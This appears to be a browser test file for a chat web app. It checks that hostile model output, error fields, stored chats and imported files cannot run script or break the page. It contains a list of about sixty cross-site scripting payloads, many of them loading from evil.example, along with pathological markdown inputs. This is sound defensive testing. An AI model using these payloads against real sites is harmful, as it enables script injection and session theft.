"""Hostile text from the model, the server's fields, stored conversations and imported files: nothing runs, nothing is
loaded, and the page stays usable."""
import json
import os
import tempfile

from talk import ask, begin, clean, fresh, idle, need_browser, ready  # first: it says where the harness is
from devtools import Browser
from fake_server import Fake, PROPS, Refuse, delta, end
from harness import Server, main

RUN = "window.hacked=1"
PAYLOADS = [
    "<script>%s</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=%s>", "<img src=\"https://evil.example/track.png\">",
    "<svg onload=%s>", "<svg><script>%s</script></svg>", "<svg><animate onbegin=%s attributeName=x dur=1s>", "<iframe src=javascript:%s>",
    "<iframe srcdoc=\"<script>parent.hacked=1</script>\">", "<body onload=%s>", "<a href=javascript:%s>x</a>", "<details open ontoggle=%s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=%s>", "<object data=\"javascript:%s\">", "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<base href=//evil.example/>", "<form action=//evil.example><input name=q autofocus onfocus=%s>",
    "<template><script>%s</script></template>", "<!--><script>%s</script>-->", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
    "[x](javascript:%s)", "[x](JaVaScRiPt:%s)", "[x](java\tscript:%s)", "[x]( javascript:%s)", "[x](&#106;avascript:%s)", "[x](vbscript:%s)",
    "[x](data:text/html,<script>opener.hacked=1</script>)", "[x](blob:https://evil.example/1)", "[x](file:///etc/passwd)", "[x](//evil.example)",
    "[x](https://a.example/\"onmouseover=\"%s)", "[x](https://a.example 'x' onclick=%s)", "[\"onclick=\"%s](https://a.example)",
    "![x](https://evil.example/track.png)", "![x](javascript:%s)", "![x](\"onerror=\"%s)", "<javascript:%s>", "<https://a.example/\"onclick=%s>",
    "https://a.example/\"onmouseover=%s", "http://a.example/<script>%s</script>", "```<script>%s</script>\ncode\n```", "```\"onclick=%s x=\"\ncode\n```",
    "```html\n<script>%s</script>\n```", "`<script>%s</script>`", "# <img src=x onerror=%s>", "- <img src=x onerror=%s>", "> <script>%s</script>",
    "|a|b|\n|-|-|\n|<img src=x onerror=%s>|<script>%s</script>|", "**<svg/onload=%s>**", "{{constructor.constructor('%s')()}}", "${%s}",
    "</textarea></pre></code></script></style><script>%s</script>", "\u0000<script>%s</script>", "\u2028%s\u2029</script><script>%s</script>",
    "<br onclick=%s>", "<br/onmouseover=%s>", "__proto__ [__proto__](https://a.example) constructor", "<x style=\"background:url(//evil.example/x)\">",
]
ALLOWED = {"P", "H1", "H2", "H3", "H4", "H5", "H6", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "A", "STRONG", "EM", "DEL", "CODE", "PRE", "BR", "TABLE", "THEAD",
           "TBODY", "TR", "TH", "TD", "DIV", "SPAN", "BUTTON", "svg", "use"}
ATTRIBUTES = {"class", "href", "title", "rel", "target", "start", "tabindex", "data-align", "data-copy", "type", "aria-label", "aria-hidden"}
LOOK = """(() => {
  const out = {tags: new Set(), attributes: new Set(), links: [], on: [], flag: window.hacked === undefined, depth: 0};
  for (const n of document.querySelectorAll('.prose *')) {
    out.tags.add(n.tagName);
    for (const a of n.attributes) out.attributes.add(a.name);
    if (n.tagName === 'A') out.links.push([n.protocol, n.rel, n.target]);
  }
  for (const n of document.querySelectorAll('*')) for (const a of n.attributes) if (a.name.startsWith('on')) out.on.push(n.outerHTML.slice(0, 200));
  const prose = document.querySelector('.message:last-child .prose');
  if (prose) for (let level = [prose]; level.length; out.depth++) level = level.flatMap((n) => [...n.children]);
  return {...out, tags: [...out.tags], attributes: [...out.attributes]};
})()"""
server = fake = page = None


def check(what):
    seen = page.do(LOOK)
    assert seen["flag"], "it ran: %r" % what
    assert set(seen["tags"]) <= ALLOWED, (what, set(seen["tags"]) - ALLOWED)
    assert set(seen["attributes"]) <= ATTRIBUTES, (what, set(seen["attributes"]) - ATTRIBUTES)
    assert seen["on"] == [], (what, seen["on"])
    assert seen["depth"] < 60, (what, seen["depth"])
    for protocol, rel, target in seen["links"]:
        assert protocol in ("http:", "https:") and rel == "noopener noreferrer" and target == "_blank", (what, protocol, rel)
    clean(page, fake.url)


def answers():
    for payload in PAYLOADS:
        text = payload.replace("%s", RUN)
        fresh(page)
        fake.says(text)
        shown = ask(page)
        check(text)
        assert "javascript:" not in page.do("[...document.querySelectorAll('[href]')].map((n) => n.getAttribute('href')).join()"), text
        if text.startswith("<") and not text.startswith(("<https", "<br")):
            assert shown.strip() == text.strip(), (shown, text)  # shown as it is


def all_at_once_and_in_pieces():
    text = "\n\n".join(PAYLOADS).replace("%s", RUN)
    for step in [1, 7, len(text)]:
        fresh(page)
        fake.says(text, step)
        ask(page)
        check("all, step %d" % step)
    # Every link can be pressed without running anything or leaving the page.
    page.do("for (const a of document.querySelectorAll('.prose a')) a.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))")
    page.do("for (const n of document.querySelectorAll('.prose *')) n.dispatchEvent(new Event('error'))")
    check("all, touched")


def other_places():
    evil = "<img src=x onerror=%s><script>%s</script>" % (RUN, RUN)

    def think(body):
        yield delta(role="assistant", content="")
        yield delta(reasoning_content=evil)
        yield delta(content="done")
        yield from end()

    fresh(page)
    fake.script = think
    ask(page, evil)  # what the person pastes is the title and a message, too
    check("thinking, question, title")
    assert page.text(".bubble") == evil and page.text(".thought") == evil and evil[:40] in page.text("#title")
    fresh(page)
    fake.script = lambda body: fail(Refuse(400, {"message": evil, "code": evil}))
    begin(page, "x")
    page.wait("document.querySelector('.failure b')")
    check("error message")
    assert evil in page.text(".failure")
    fresh(page)
    fake.script = lambda body: iter([{"error": {"message": evil}}])
    begin(page, "x")
    page.wait("document.querySelector('.failure b')")
    check("error event")
    fake.props = {**PROPS, "version": evil, "device": evil, "model": {**PROPS["model"], "id": evil}}
    page.reload()
    page.wait("document.getElementById('welcome-model').textContent.includes('onerror') || document.getElementById('model').textContent.includes('onerror')")
    check("model's name")
    fake.props = PROPS
    page.reload()
    ready(page)


def fail(problem):
    raise problem


def events_of_any_shape():
    """What is no chunk of an answer is passed over, or ends it with a message; it does not end the page."""
    shapes = [1, None, [], "x", {"choices": None}, {"choices": 5}, {"choices": [None]}, {"choices": [{"delta": None}]}, {"choices": [{"delta": {"content": 5}}]},
              {"choices": [{"delta": {"content": {"toString": 1}}}]}, {"usage": 3}, {"usage": {"completion_tokens": "x"}}, {"choices": {"0": {"delta": {"content": "no"}}}}]
    fresh(page)
    fake.script = lambda body: iter([*("data: %s\n\n" % json.dumps(s) for s in shapes), ": ping\n\n", "event: x\nid: 1\ndata: {}\n\n", "\r\n", delta(content="fine"), "[DONE]"])
    assert ask(page) == "fine"
    check("shapes")
    for broken in ["data: {\n\n", "data: " + "x" * 100 + "\n\n", "data:\n\n"]:
        fresh(page)
        fake.script = lambda body, b=broken: iter([delta(content="kept"), b, "[DONE]"])
        assert ask(page) == "kept"
        page.wait("document.querySelector('.failure b').textContent === 'The connection was lost.'")


N, LINE = 30000, 100000
LONG = {
    "a line of one letter": "a" * LINE, "stars": "*" * LINE, "open stars": "*a " * (N // 3), "open and closed": "*a" * (N // 4) + "a*" * (N // 4),
    "strong": "**a** " * (N // 6), "mixed marks": "*_~~**__" * (N // 8), "alternating": "*a _b " * (N // 6), "ticks": "`" * LINE, "ticks of all lengths": " ".join("`" * i for i in range(1, 440)),
    "brackets": "[" * LINE, "closed brackets": "[" * (N // 2) + "]" * (N // 2), "links": "[a](" * (N // 4), "links in links": "[" * (N // 20) + "](http://a.example)" * (N // 20),
    "images": "![" * (N // 2), "less-than": "<" * LINE, "autolinks": "<http://" * (N // 8), "addresses": "http://" * (N // 7), "an address": "http://a.example/" + "a" * LINE,
    "closing parentheses": "http://a.example/" + ")" * N, "quotes": ">" * LINE, "quoted lines": "> " * 40 + "\n" + ("> " * 300 + "x\n") * 100, "bullets": "- " * (N // 2),
    "deep list": "".join("  " * min(i, 400) + "- x\n" for i in range(400)), "many items": "- x\n" * (N // 4), "headings": "# " * (N // 2), "hashes": "#" * LINE,
    "blanks": " " * LINE + "x", "lines of blanks": (" " * 1000 + "\n") * 100, "empty lines": "\n" * N, "rules": "- " * 99 + "x\n", "bars": "|" * LINE, "a wide table": "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "|b" * 2000,
    "a long table": "a|b\n-|-\n" + "1|2\n" * 5000, "dividers": (" " * 1900 + "-|x\n") * 50, "an open fence": "```c\n" + "int x = \"a\\\n" * 8000, "fences": "```\n" * (N // 4), "a string": "```js\n\"" + "\\" * N, "comment": "```c\n/*" + "*" * N,
    "backslashes": "\\" * LINE, "letters with marks": "Z" + "\u0351" * 20000, "bidi": "\u202e" * 5000 + "abc", "emoji": "\U0001f469\u200d" * 20000, "nul": "\0" * N,
}


def long_texts():
    """Each is shown, and the page answers afterwards."""
    for name, text in LONG.items():
        fresh(page)
        fake.says(text, 5000)
        begin(page, name)
        page.wait("document.querySelectorAll('.message').length === 2")
        idle(page, 60)
        check(name)
        assert page.do("document.documentElement.scrollWidth <= innerWidth"), name
    shown = page.do("document.querySelector('.message:last-child .prose').textContent.length")
    assert shown > 0


def longer_than_shown_as_markdown():
    fresh(page)
    fake.says("**b** " * 60000 + "\n\nthe [end](https://a.example/)", 20000)
    text = ask(page, seconds=60)
    assert text.endswith("the end") or text.endswith("the [end](https://a.example/)"), text[-60:]
    assert text.count("b") >= 60000
    fake.says("x" * 500000 + "**y**", 50000)
    fresh(page)
    assert ask(page, seconds=60).endswith("**y**")  # beyond the limit text stays as it is


def stored_and_imported():
    evil = "<img src=x onerror=%s>" % RUN
    bad = ["", "null", "{", "[]", '{"title": 5, "messages": []}', '{"title": "t", "messages": {}}', '{"title": "t", "messages": [{"role": "system", "text": "x"}]}',
           '{"title": "t", "messages": [{"role": "user", "text": {}}]}', '{"title": "t", "messages": [{"role": "user", "text": "x", "thinking": 5}]}']
    good = {"title": evil, "messages": [{"role": "user", "text": evil}, {"role": "assistant", "text": evil, "thinking": evil, "finish": evil[:30], "model": evil,
            "failure": {"title": evil, "detail": evil}, "stats": {"completion": 1e308, "firstMs": "x", "decodeMs": -1}}], "settings": {"temperature": "9", "system": evil, "x": 1}, "id": "../../x"}
    page.do("for (const k of Object.keys(localStorage)) localStorage.removeItem(k)")
    for i, text in enumerate(bad):
        page.do("localStorage.setItem('megadecode:chat:bad%d', %s)" % (i, json.dumps(text)))
    page.do("localStorage.setItem('megadecode:chat:600d', %s)" % json.dumps(json.dumps(good)))
    page.do("localStorage.setItem('megadecode:settings', '[1]'), localStorage.setItem('megadecode:theme', '\"\\\\\"><script>\"')")
    page.reload()
    ready(page)
    assert "%d unreadable" % len(bad) in page.text("#storage"), page.text("#storage")
    page.do("location.hash = '600d'")
    page.wait("document.querySelectorAll('.message').length === 2")
    check("stored")
    assert page.text(".message.assistant .prose") == evil
    page.do("for (const k of Object.keys(localStorage)) localStorage.removeItem(k)")
    page.open(fake.url)
    ready(page)
    with tempfile.TemporaryDirectory() as folder:
        def load(content):
            path = os.path.join(folder, "f.json")
            with open(path, "w", encoding="utf-8") as out:
                out.write(content if isinstance(content, str) else json.dumps(content))
            node = page.call("Runtime.evaluate", expression="document.getElementById('import-file')")["result"]["objectId"]
            page.call("DOM.setFileInputFiles", files=[path], objectId=node)

        wrap = {"format": "megadecode-conversations", "version": 1}
        for content, say in [("no json", "not JSON"), ([], "not exported"), ({"format": "x"}, "not exported"), ({**wrap, "version": 2, "conversations": []}, "version is 2"),
                             ({**wrap, "conversations": [json.loads(bad[6])]}, "conversations[0].messages[0].role: expected user or assistant")]:
            page.do("document.getElementById('toasts').replaceChildren()")
            load(content)
            page.wait("document.getElementById('toasts').textContent.includes(%s)" % json.dumps(say))
        load({**wrap, "conversations": [good, good]})
        page.wait("document.querySelectorAll('.chats li').length === 2")
        check("imported")
        assert page.text(".bubble") == evil


def the_policy_holds():
    """Were there a mistake in the page's script, the browser would still run nothing."""
    refused = page.do("(() => { try { document.createElement('div').innerHTML = '<b>x</b>'; return false; } catch (e) { return e instanceof TypeError; } })()")
    assert refused, "innerHTML is not refused"
    page.do("(() => { const s = document.createElement('script'); try { s.textContent = 'window.hacked=1'; document.body.append(s); } catch (e) {} })()")
    page.do("(() => { const d = document.createElement('button'); try { d.setAttribute('onclick', 'window.hacked=1'); } catch (e) {} document.body.append(d); d.click(); })()")
    assert page.do("window.hacked === undefined")
    assert page.do("fetch('https://evil.example/').then(() => false, () => true)")
    assert page.do("new Promise((done) => { const i = new Image(); i.onload = () => done(false); i.onerror = () => done(true); i.src = '%shealth'; })" % fake.url)
    page.events.clear()
    # The same payload in a page without a policy does run: the flag these tests look at can be set.
    page.call("Page.navigate", url="data:text/html,<img src=x onerror=window.hacked=1>")
    page.wait("window.hacked === 1")


if __name__ == "__main__":
    need_browser()
    with Server() as server, Fake(server.port) as fake, Browser() as browser:
        page = ready(browser.page(fake.url))
        main(answers, all_at_once_and_in_pieces, other_places, events_of_any_shape, long_texts, longer_than_shown_as_markdown, stored_and_imported,
             the_policy_holds)
